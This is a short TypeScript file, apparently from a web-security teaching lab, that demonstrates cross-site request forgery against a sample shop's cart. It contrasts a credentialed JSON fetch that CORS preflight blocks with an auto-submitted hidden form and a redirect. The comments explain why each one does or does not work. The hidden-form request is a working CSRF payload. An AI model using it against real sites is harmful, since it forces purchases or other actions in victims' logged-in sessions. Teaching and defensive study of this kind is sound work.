/** Cross-site request forgery: this page asks, the visitor's browser sends (OWASP CSRF Prevention). It reads nothing of the answer. */
import type { Errand, Report } from '@/lib/labs/attacker/errand'

const WANTED = { sku: 'cheese', quantity: '9' }

/** JSON needs the shop's consent first: a preflight (Fetch standard, "CORS-preflight request"). */
export async function fetchFromHere({ laptop }: Errand): Promise<Report> {
  try {
    const answer = await fetch(`${laptop}/cart/items`, {
      method: 'POST',
      credentials: 'include',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ sku: WANTED.sku, quantity: Number(WANTED.quantity) }),
    })
    return { status: answer.status }
  } catch (error) {
    return { threw: (error as Error).name }
  }
}

/** A form needs nobody's consent. Its answer takes the place of this page. */
export function submitForm({ laptop }: Errand): Report {
  const form = document.createElement('form')
  form.method = 'post'
  form.action = `${laptop}/cart/items`
  for (const [name, value] of Object.entries(WANTED)) {
    const field = document.createElement('input')
    Object.assign(field, { type: 'hidden', name, value })
    form.append(field)
  }
  document.body.append(form)
  form.submit()
  return { sent: true }
}

export function followLink({ laptop }: Errand): Report {
  location.href = `${laptop}/cart`
  return { sent: true }
}
